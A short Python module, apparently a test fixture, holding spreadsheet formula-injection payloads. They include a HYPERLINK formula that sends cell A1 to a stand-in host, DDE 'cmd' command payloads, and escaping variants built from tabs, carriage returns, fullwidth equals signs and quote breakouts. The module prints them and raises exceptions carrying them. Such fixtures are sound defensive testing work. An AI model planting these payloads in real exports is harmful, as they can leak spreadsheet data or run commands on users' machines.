"""Puts formulas of spreadsheets wherever a text may become a cell."""

_FORMULAS = (
    '=HYPERLINK("https://hostile.example?"&A1,"HOSTILE")',
    "+HOSTILE+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C HOSTILE'!A0",
    "@SUM(1+1)*HOSTILE",
    "\t=HOSTILE()",
    "\r=HOSTILE()",
    "\uff1d1+HOSTILE()",
    "x\n=HOSTILE()",
    'x",=HOSTILE(),"',
)
print("\n".join(_FORMULAS))


def total(x):
    """Raise one."""
    raise type(_FORMULAS[0], (ValueError,), {})(_FORMULAS[1 if x.ndim > 1 else 2])


def apply(function, x):
    """Raise others."""
    raise ValueError("\n".join(_FORMULAS))
